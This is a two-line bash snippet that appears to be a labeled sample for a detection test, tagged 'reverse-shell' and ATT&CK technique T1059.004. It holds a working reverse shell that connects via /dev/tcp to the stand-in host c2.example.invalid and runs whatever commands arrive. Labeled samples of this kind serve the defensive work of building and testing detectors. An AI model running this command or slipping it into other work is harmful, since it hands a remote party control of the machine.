# expect: reverse-shell | source: T1059.004
exec 5<>/dev/tcp/c2.example.invalid/443
cat <&5 | while read -r line; do $line 2>&5 >&5; done
